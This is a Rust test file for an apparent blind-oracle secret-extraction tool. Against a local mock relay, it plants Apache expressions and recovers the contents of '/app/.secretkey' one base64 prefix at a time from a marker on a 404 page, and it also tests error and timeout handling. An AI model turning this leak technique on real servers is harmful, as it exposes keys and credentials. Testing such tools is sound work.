// Copyright (c) 2026 Joseph Verdicchio and EvidenceOS Contributors
// SPDX-License-Identifier: Apache-2.0

use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::extract::State;
use axum::http::StatusCode;
use axum::routing::{get, post};
use axum::Router;
use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use prefixleak_core::config::OracleEndpoints;
use prefixleak_core::{
    Alphabet, HttpTransport, OracleClient, PredicateTemplate, PrefixExtractor, PrefixLeakError,
    PrefixOracle,
};

const MARKER: &str = "114514";

#[derive(Clone)]
struct Relay {
    secret_b64: String,
    planted: Arc<Mutex<Option<String>>>,
}

async fn plant(State(relay): State<Relay>, body: String) -> StatusCode {
    if let Ok(mut slot) = relay.planted.lock() {
        *slot = Some(body);
    }
    StatusCode::OK
}

/// Evaluates the planted Apache expression against the secret.
async fn observe(State(relay): State<Relay>) -> (StatusCode, String) {
    let planted = relay.planted.lock().ok().and_then(|slot| slot.clone());
    let matched = planted
        .as_deref()
        .and_then(planted_pattern)
        .map(|prefix| relay.secret_b64.starts_with(&prefix))
        .unwrap_or(false);
    let body = if matched { MARKER } else { "Not Found" };
    (StatusCode::NOT_FOUND, body.to_string())
}

fn planted_pattern(predicate: &str) -> Option<String> {
    let start = predicate.find("m#^")? + 3;
    let end = start + predicate[start..].find("#\"")?;
    let mut out = String::new();
    let mut escaped = false;
    for c in predicate[start..end].chars() {
        if c == '\\' && !escaped {
            escaped = true;
            continue;
        }
        escaped = false;
        out.push(c);
    }
    Some(out)
}

async fn spawn_relay(secret: &[u8]) -> String {
    let relay = Relay {
        secret_b64: STANDARD.encode(secret),
        planted: Arc::new(Mutex::new(None)),
    };
    let app = Router::new()
        .route("/plant", post(plant))
        .route("/test/404.html", get(observe))
        .route("/broken", post(|| async { StatusCode::INTERNAL_SERVER_ERROR }))
        .route(
            "/down",
            get(|| async { (StatusCode::BAD_GATEWAY, "upstream down") }),
        )
        .route(
            "/slow",
            get(|| async {
                tokio::time::sleep(Duration::from_secs(5)).await;
                MARKER
            }),
        )
        .with_state(relay);

    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let addr = listener.local_addr().expect("addr");
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    format!("http://{addr}")
}

fn client(base: &str, plant: &str, observe: &str, timeout_ms: u64) -> OracleClient<HttpTransport> {
    let endpoints = OracleEndpoints {
        plant_url: format!("{base}{plant}"),
        observe_url: format!("{base}{observe}"),
        timeout_ms,
    };
    OracleClient::new(
        HttpTransport::new(&endpoints).expect("transport"),
        PredicateTemplate::default(),
        MARKER,
    )
}

#[tokio::test]
async fn extracts_secret_with_plus_through_http_relay() {
    // Encodes as "++9BQg==", so the leading symbols need escaping.
    let secret = [0xfbu8, 0xef, 0x41, 0x42];
    let base = spawn_relay(&secret).await;
    let mut oracle = client(&base, "/plant", "/test/404.html", 2_000);

    let out = PrefixExtractor::new(Alphabet::base64(), 64)
        .extract(&mut oracle, "file('/app/.secretkey')")
        .await
        .expect("extract");

    assert_eq!(out.leaked.as_str(), STANDARD.encode(secret));
    assert_eq!(out.decode().expect("decode"), secret.to_vec());
    assert_eq!(oracle.queries(), out.probes);
}

#[tokio::test]
async fn failed_plant_is_unresponsive() {
    let base = spawn_relay(b"x").await;
    let mut oracle = client(&base, "/broken", "/test/404.html", 2_000);
    let err = PrefixExtractor::new(Alphabet::hex(), 4)
        .extract(&mut oracle, "expr")
        .await
        .expect_err("plant failure must abort");
    assert!(matches!(
        err,
        PrefixLeakError::OracleUnresponsive { position: 0, .. }
    ));
}

#[tokio::test]
async fn server_error_on_observe_is_unresponsive() {
    let base = spawn_relay(b"x").await;
    let mut oracle = client(&base, "/plant", "/down", 2_000);
    let err = PrefixExtractor::new(Alphabet::base64(), 4)
        .extract(&mut oracle, "expr")
        .await
        .expect_err("a 5xx observation must not end extraction as a miss");
    assert!(matches!(
        &err,
        PrefixLeakError::OracleUnresponsive { position: 0, reason } if reason.contains("502")
    ));
}

#[tokio::test]
async fn timeout_is_never_a_hit() {
    let base = spawn_relay(b"x").await;
    let mut oracle = client(&base, "/plant", "/slow", 200);
    let result = oracle.probe("expr", "A").await;
    assert!(result.is_err());
}
